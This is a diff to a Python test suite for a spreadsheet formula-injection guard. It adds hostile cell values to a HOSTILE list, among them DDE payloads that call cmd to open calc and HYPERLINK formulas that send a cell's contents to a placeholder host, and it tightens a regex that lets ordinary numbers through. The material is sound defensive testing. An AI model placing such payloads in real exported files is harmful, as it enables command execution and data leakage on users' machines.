@@ -31,9 +31,19 @@ HOSTILE = (
     '=HYPERLINK("x.invalid/"&A1)',
     "-1 + cmd|' /C calc'!A0",
     "-1 % + cmd|' /C calc'!A0",
+    "-1 (cmd|' /C calc'!A0)",
+    "-1, cmd|' /C calc'!A0",
+    '-1;HYPERLINK("x.invalid/"&A1)',
+    "-1:HYPERLINK(A1)",
+    "-1 (Sheet2!A1)",
+    "+1 A1",
+    "+1",
+    "-1.2.3",
 )
 SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
-OURS = re.compile(r"=+|-|[-+]?[0-9.]+( ?%)?( [A-Za-z].*)?|- .*|\+ [0-9(].*")
+OURS = re.compile(
+    r"=+|-|[0-9.]+( ?%)?( [A-Za-z].*)?|-[0-9]+(\.[0-9]+)?( ?%)?( [^|!(]*)?|- .*|\+ [0-9(].*"
+)
 """Rules, bullets and numbers of the worksheet itself, none of which names a command."""
 
 
@@ -138,8 +148,8 @@ def test_what_begins_like_a_formula_is_text(text):
 
 @pytest.mark.parametrize(
     "text",
-    ["-5", "-0.5 %", "+3 mg", "-0.5 mg to 2 mg", "-1.5", "-", "-12 % of the label (95 %)", "5 = 5",
-     "naltrexone", "a=1", "1-2", "", "'=1+1", "-0.3%"],
+    ["-5", "-0.5 %", "-3 mg", "-0.5 mg to 2 mg", "-1.5", "-", "-12 % of the label (95 %)", "5 = 5",
+     "naltrexone", "a=1", "1-2", "", "'=1+1", "-0.3%", "+", "-2 %: less (of 4)"],
 )  # fmt: skip
 def test_numbers_and_names_stay_as_they_are(text):
     """A number below nothing is a number in a spreadsheet too."""
